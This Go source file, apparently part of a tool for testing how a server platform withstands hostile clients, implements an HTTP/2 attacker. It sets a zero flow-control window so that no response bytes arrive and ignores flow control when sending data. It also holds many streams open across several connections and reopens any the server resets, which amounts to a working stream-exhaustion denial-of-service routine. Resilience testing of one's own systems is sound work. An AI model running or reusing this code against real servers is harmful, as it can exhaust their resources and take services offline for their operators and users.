package hostile

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is an HTTP/2 connection without TLS that answers settings and pings, and
// opens its window for no data. Safe for concurrent use.
type h2 struct {
	host string
	conn net.Conn
	// answers is how many heads came, and resets how many streams were reset.
	answers, resets atomic.Int64
	// over is closed when the connection has ended.
	over chan struct{}

	mu     sync.Mutex
	frames *http2.Framer
	stream uint32 // the last that was opened
}

// noWindow lets no byte of an answer come.
var noWindow = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}

// h2 connects. The connection ends with ctx at the latest.
func (a *Attacker) h2(ctx context.Context, settings ...http2.Setting) (*h2, error) {
	conn, err := a.dial(ctx)
	if err != nil {
		return nil, err
	}
	c := &h2{host: a.host(), conn: conn, over: make(chan struct{}), frames: http2.NewFramer(conn, conn)}
	err = send(conn, http2.ClientPreface)
	if err == nil {
		err = c.write(func(f *http2.Framer) error { return f.WriteSettings(settings...) })
	}
	if err != nil {
		_ = conn.Close()
		return nil, fmt.Errorf("begin HTTP/2: %w", err)
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	go func() { // ends with the connection
		defer close(c.over)
		defer conn.Close()
		defer stop()
		for c.read() == nil {
		}
	}()
	return c, nil
}

// read takes one frame.
func (c *h2) read() error {
	frame, err := c.frames.ReadFrame()
	if err != nil {
		return err
	}
	switch f := frame.(type) {
	case *http2.SettingsFrame:
		if !f.IsAck() {
			return c.write((*http2.Framer).WriteSettingsAck)
		}
	case *http2.PingFrame:
		if !f.IsAck() {
			return c.write(func(out *http2.Framer) error { return out.WritePing(true, f.Data) })
		}
	case *http2.HeadersFrame:
		c.answers.Add(1)
	case *http2.RSTStreamFrame:
		c.resets.Add(1)
	}
	return nil
}

// write writes frames, whole and in one piece.
func (c *h2) write(frames func(*http2.Framer) error) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	return frames(c.frames)
}

// open sends the head of a request in a stream of its own, which goes on with a
// body unless end says that there is none. Fields are name, value, name, value.
func (c *h2) open(method, path string, end bool, fields ...string) (stream uint32, err error) {
	block := headerBlock(append([]string{":method", method, ":scheme", "http", ":path", path, ":authority", c.host}, fields...)...)
	err = c.write(func(f *http2.Framer) error {
		if c.stream == 0 {
			c.stream = 1
		} else {
			c.stream += 2
		}
		stream = c.stream
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: end})
	})
	return stream, err
}

// alive reports whether the connection has not ended.
func (c *h2) alive() bool {
	select {
	case <-c.over:
		return false
	default:
		return true
	}
}

// send sends data of a stream, without looking whether the window allows it.
func (c *h2) send(stream uint32, data []byte, end bool) error {
	const frame = 16 << 10
	for {
		n := min(len(data), frame)
		last := n == len(data)
		if err := c.write(func(f *http2.Framer) error { return f.WriteData(stream, end && last, data[:n]) }); err != nil || last {
			return err
		}
		data = data[n:]
	}
}

// headerBlock encodes fields, given as name, value, name, value.
func headerBlock(fields ...string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // a buffer takes all
	}
	return block.Bytes()
}

// keepStreams holds n streams on each of connections until ctx ends. Those that
// the platform ended are opened again, the connections too.
func (a *Attacker) keepStreams(ctx context.Context, connections, n int, open func(c *h2) error, settings ...http2.Setting) {
	keep(ctx, connections, func(ctx context.Context, _ int) {
		c, err := a.h2(ctx, settings...)
		if err != nil {
			return
		}
		defer c.conn.Close()
		for opened := int64(0); ctx.Err() == nil; pause(ctx, reopenPause) {
			for ; opened < int64(n)+c.resets.Load(); opened++ {
				if open(c) != nil {
					return
				}
			}
		}
	})
}
